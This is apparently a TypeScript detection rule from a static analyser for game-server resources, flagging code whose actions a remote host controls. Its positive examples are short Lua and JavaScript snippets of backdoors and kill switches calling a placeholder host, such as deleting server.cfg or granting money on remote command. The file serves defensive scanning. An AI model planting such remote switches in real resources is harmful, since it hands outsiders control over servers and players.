import type { Event } from '#analysis/flow/events.ts'
import { fieldOf, originsOf, originsWithin } from '#analysis/flow/heap.ts'
import { has, hasFreeStart, nothing, origin, startOf, type Value } from '#analysis/flow/value.ts'
import { actKinds, actOf } from './acts.ts'
import { hostsIn } from './hosts.ts'
import { defineRule, js, lua, medium } from './rule.ts'

const byHosts = new Set(['gift', 'right', 'drops-all', 'deletes', 'stops', 'job', 'console'])

/** No host and no player names the file, and its place is not known: the resource may have made it. */
const isMaybeOwnFile = (path: Value): boolean =>
  startOf(path) === '' && (originsOf(path) & (origin.http | origin.web | origin.event | origin.decoded)) === 0

/** A request to an address that another host names. */
function isNamedByHost({ named, values }: Event): boolean {
  const [first = nothing] = values
  const url = named.url?.objects ? (fieldOf(named.url, 'url') ?? nothing) : (named.url ?? first)
  return has(url, origin.http) && hasFreeStart(url) && !url.objects
}

export const remoteSwitch = defineRule({
  id: 'remote-switch',
  on: [...actKinds, 'compares', 'reads-key', 'http', 'sends-more'],
  test: (event, program) => {
    const { kind, values, object, file, name } = event
    if (kind === 'reads-key')
      return has(object ?? nothing, origin.http) &&
        has(values[0] ?? nothing, origin.identity) &&
        !has(values[0] ?? nothing, origin.http) &&
        file.side === 'server'
        ? medium('another host names a player')
        : undefined
    if (kind === 'sends-more' || kind === 'http') {
      const answer = kind === 'http' ? values.slice(1) : object?.refs?.includes('#response') ? values : []
      const isAnswer =
        answer.some((value) => (originsWithin(value) & origin.http) !== 0) &&
        (kind === 'sends-more' || program.isForeign(event))
      if (isAnswer && program.of(file, 'http').some((other) => other !== event && isNamedByHost(other)))
        return medium('another host chooses what is requested, and gets the answer')
    }
    if (kind === 'sends-more') return undefined
    if (kind === 'http' && file.side === 'page') {
      const [url = nothing] = values
      if (
        values.some((value) => hostsIn(value).includes('own-page')) &&
        values.some((value) => (originsWithin(value) & origin.http) !== 0)
      )
        return medium('what another host sends is passed to the game')
      const isChosen = /^https:\/\/([\w-]*$|[\w-]+\/)/.test(startOf(url)) && has(url, origin.http)
      return isChosen ? medium('another host chooses the function that is called') : undefined
    }
    if (kind === 'compares') {
      const isNamed =
        values.some((value) => has(value, origin.identity)) &&
        values.some((value) => has(value, origin.http) && !has(value, origin.identity))
      return isNamed && name !== 'if' && file.side === 'server'
        ? medium('another host names a player')
        : undefined
    }
    const act = actOf(event)
    if (!act) return undefined
    // Temporary files and old settings are removed after a download.
    if (kind === 'removes-file' && isMaybeOwnFile(event.named.path ?? nothing)) return undefined
    if (act.isFromHost && (act.kind === 'gift' || act.kind === 'right' || act.kind === 'job'))
      return medium(`${act.detail}, as another host says`)
    for (const { trigger, name: host } of program.triggers(event)) {
      if (trigger !== 'http' && trigger !== 'web') continue
      const isOpen =
        trigger === 'http' && act.kind === 'changes-data' ? !act.isFromHost : byHosts.has(act.kind)
      if (isOpen)
        return medium(
          `${act.detail}, by ${trigger === 'http' ? 'another host' : 'a web request'} ${host}`.trim(),
        )
    }
    return undefined
  },
  examples: {
    found: [
      js(
        `const socket = new WebSocket('wss://a.example')
socket.onmessage = async ({ data }) => {
  const job = JSON.parse(data)
  const answer = await fetch(job.url, { headers: job.headers })
^ socket.send(await answer.text())
}`,
        'page',
      ),
      lua(`PerformHttpRequest('https://a.example/job', function(_, body)
  PerformHttpRequest(json.decode(body).url, function(_, text)
^   PerformHttpRequest('https://a.example/done', print, 'POST', text)
  end)
end)`),
      lua(`local staff = {}
PerformHttpRequest('https://a.example', function(_, body) staff = json.decode(body) end)
RegisterCommand('menu', function(player)
^ if staff[GetPlayerIdentifierByType(player, 'license')] then open(player) end
end)`),
      lua(`RegisterCommand('menu', function(player)
  local license = GetPlayerIdentifierByType(player, 'license')
  PerformHttpRequest('https://a.example', function(_, body)
^   if body:find(license, 1, true) then open(player) end
  end)
end)`),
      js(`setInterval(async () => {
  const { bonus } = await (await fetch('https://a.example')).json()
^ for (const { id, amount } of bonus) QBCore.Functions.GetPlayerByCitizenId(id).Functions.AddMoney('bank', amount)
}, 60000)`),
      lua(`PerformHttpRequest('https://a.example/key', function(status, body)
  if body ~= 'ok' then
^   StopResource('es_extended')
  end
end)`),
      lua(`PerformHttpRequest('https://a.example/key', function(status, body)
^ StopResource(body or GetCurrentResourceName())
end)`),
      lua(`PerformHttpRequest('https://a.example/key', function(status)
^ if status ~= 200 then os.remove('server.cfg') end
end)`),
      lua(`SetHttpHandler(function(req, res)
^ ExecuteCommand('restart garage')
end)`),
      js(
        `new WebSocket('wss://a.example').onmessage = ({ data }) => {
^ fetch(\`https://\${GetParentResourceName()}/app\`, { method: 'POST', body: data })
}`,
        'page',
      ),
      lua(`PerformHttpRequest('https://a.example/key', function(status)
  if status ~= 200 then
^   MySQL.update('UPDATE horses SET model = ?', { 'a_c_rat_01' })
  end
end)`),
      js(
        `const socket = new WebSocket('wss://a.example')
socket.onmessage = (message) => {
  const { resource, name } = JSON.parse(message.data)
^ fetch(\`https://\${resource}/\${name}\`, { method: 'POST' })
}`,
        'page',
      ),
      lua(`PerformHttpRequest('https://a.example', function(code, body)
  for _, id in ipairs(json.decode(body)) do
^   if id == GetPlayerIdentifier(source, 0) then open() end
  end
end)`),
      js(
        `image.onload = () => {
  canvas.drawImage(image, 0, 0)
  const codes = canvas.getImageData(0, 0, 9, 1).data
^ fetch(\`https://\${GetParentResourceName()}/run\`, { method: 'POST', body: String.fromCharCode(...codes) })
}`,
        'page',
      ),
    ],
    notFound: [
      js(
        `const socket = new WebSocket('wss://a.example')
socket.onmessage = async ({ data }) => {
  const answer = await fetch('https://b.example/names')
  socket.send(JSON.stringify({ id: JSON.parse(data).id, names: await answer.text() }))
}`,
        'page',
      ),
      lua(`PerformHttpRequest('https://a.example/job', function(_, body)
  PerformHttpRequest(json.decode(body).url, function(_, text) print(text) end)
end)`),
      lua(`PerformHttpRequest('https://a.example', function(_, body) names = json.decode(body) end)
RegisterCommand('menu', function(player) print(names[player]) end)`),
      js(`setInterval(async () => {
  const { factor } = await (await fetch('https://a.example')).json()
  for (const player of players) player.Functions.AddMoney('bank', 100)
  console.log(factor)
}, 60000)`),
      lua(`PerformHttpRequest('https://a.example/key', function(status, body)
  if body ~= 'ok' then StopResource(GetCurrentResourceName()) end
end)`),
      js(
        `let resource = ''
addEventListener('message', ({ data }) => { resource = data.resource })
async function ask(name, body) {
  const host = window.GetParentResourceName ? window.GetParentResourceName() : resource
  return (await fetch(\`https://\${host}/\${name}\`, { method: 'POST', body: JSON.stringify(body) })).json()
}
ask('list').then((list) => ask('show', list))`,
        'page',
      ),
      lua(`PerformHttpRequest('https://a.example/version', function(status, body)
  ExecuteCommand('sets garageVersion 2.1')
end)`),
      lua(`PerformHttpRequest('https://a.example/version', function(status, body)
  if body ~= version then print('An update is available') end
end)
StopResource(GetCurrentResourceName())`),
      lua(`SetHttpHandler(function(req, res)
  res.send(json.encode({ players = #GetPlayers() }))
end)`),
      js(
        `new WebSocket('wss://a.example').onmessage = ({ data }) => show(data)
fetch(\`https://\${GetParentResourceName()}/app\`, { method: 'POST', body: name })`,
        'page',
      ),
      lua(`PerformHttpRequest('https://a.example/version', function(status, body)
  if status == 200 then os.remove(('%s/cache/%s.json'):format(GetResourcePath(GetCurrentResourceName()), name)) end
end)`),
      lua(`PerformHttpRequest('https://a.example/names', function(status, body)
  MySQL.update('UPDATE horses SET name = ?', { body })
end)`),
      js(
        `const socket = new WebSocket('wss://a.example')
socket.onmessage = (message) => show(JSON.parse(message.data))`,
        'page',
      ),
      lua(`for _, id in ipairs(Config.Staff) do
  if id == GetPlayerIdentifier(source, 0) then open() end
end`),
      js(
        `image.onload = () => {
  canvas.drawImage(image, 0, 0)
  fetch(\`https://\${GetParentResourceName()}/run\`, { method: 'POST', body: image.alt })
}`,
        'page',
      ),
    ],
  },
})
